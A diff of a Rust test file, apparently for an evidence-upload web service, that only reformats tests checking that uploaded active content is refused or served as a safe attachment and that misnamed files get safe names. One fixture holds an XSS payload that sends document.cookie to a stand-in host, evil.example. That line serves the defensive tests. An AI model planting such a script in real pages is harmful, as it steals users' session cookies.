@@ -20,7 +20,9 @@ use serde_json::Value;
 /// Files that a browser or the desktop would run or render as active content.
 fn active_samples() -> Vec<(&'static str, Vec<u8>)> {
     let late_script = [
-        "Statement of the witness, page one.\n".repeat(30).as_bytes(),
+        "Statement of the witness, page one.\n"
+            .repeat(30)
+            .as_bytes(),
         b"<script>fetch('https://evil.example/'+document.cookie)</script>\n",
     ]
     .concat();
@@ -189,7 +191,10 @@ async fn active_content_is_refused_unless_marked_and_never_served_to_render() {
             let (s, to) = page_upload(&b, &csrf, &case, name, bytes.clone(), true).await;
             assert_eq!(
                 (s, to.as_str()),
-                (StatusCode::SEE_OTHER, format!("/cases/{case}/evidence").as_str()),
+                (
+                    StatusCode::SEE_OTHER,
+                    format!("/cases/{case}/evidence").as_str()
+                ),
                 "{what}"
             );
             // Served as an attachment no browser renders, under a name that opens as text.
@@ -246,7 +251,11 @@ async fn plain_files_stay_plain_and_get_safe_names() {
             ),
             (
                 "photo.svg",
-                [&[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A][..], &[0u8; 32]].concat(),
+                [
+                    &[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A][..],
+                    &[0u8; 32],
+                ]
+                .concat(),
                 "png",
                 "image/png",
                 "photo.svg.png",
